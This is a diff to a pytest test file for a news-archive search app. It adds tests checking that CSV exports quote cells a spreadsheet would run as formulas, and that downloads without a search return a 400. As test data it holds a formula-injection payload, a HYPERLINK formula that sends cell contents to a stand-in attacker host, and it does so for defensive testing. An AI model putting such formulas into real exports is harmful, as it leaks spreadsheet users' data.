@@ -3,12 +3,13 @@
 import csv
 import datetime as dt
 import io
+from urllib.parse import quote
 
 import pytest
 
 from search.documents import articles_for_index
 from search.service import get_backend
-from tests.factories import make_article, make_tag
+from tests.factories import make_article, make_outlet, make_tag
 
 pytestmark = pytest.mark.django_db
 
@@ -119,3 +120,26 @@ def test_empty_page_invites_a_search_and_the_search_page_links_here(client, arch
 def test_an_entity_page_carries_its_own_filter_to_the_compare_page(client, archive):
     html = client.get("/tags/topic/coffee/?q=brazil").content.decode()
     assert "/compare/?s1.q=brazil&amp;s1.tag=topic%3Acoffee" in html
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_quoted(client, archive):
+    # A shared link's label and an outlet's name are other people's text: a spreadsheet
+    # must show them, not run them (=HYPERLINK(…) sends data away; +, -, @ start formulas too).
+    make_article("=1+1", f"{COFFEE} formula", outlet=make_outlet("=HYPERLINK(1)"))
+    get_backend().index(articles_for_index())
+    label = '=HYPERLINK("http://evil.example/?"&A1)'
+    series = rows(client.get(f"/compare/series.csv?s1.q=coffee&s1.label={quote(label)}&bin=month"))
+    assert series[0][4:] == [f"'{label} count", f"'{label} share"]
+    facets = rows(client.get("/compare/facets.csv?s1.q=coffee&s1.label=@SUM(A1)"))
+    outlets = [r for r in facets[1:] if r[1] == "outlet"]
+    assert ["'@SUM(A1)", "outlet", "hyperlink1", "'=HYPERLINK(1)"] in [r[:4] for r in outlets]
+    assert all(r[0] == "'@SUM(A1)" for r in facets[1:])
+    assert all(not cell.startswith(("=", "+", "-", "@")) for r in facets for cell in r)
+    assert facets[1][4].isdigit()  # numbers stay numbers
+
+
+def test_a_download_without_a_search_is_a_400_saying_so(client, archive):
+    for url in ("/compare/series.csv", "/compare/chart.svg?bin=month"):
+        response = client.get(url)
+        assert response.status_code == 400
+        assert "Add a search to compare first" in response.content.decode()
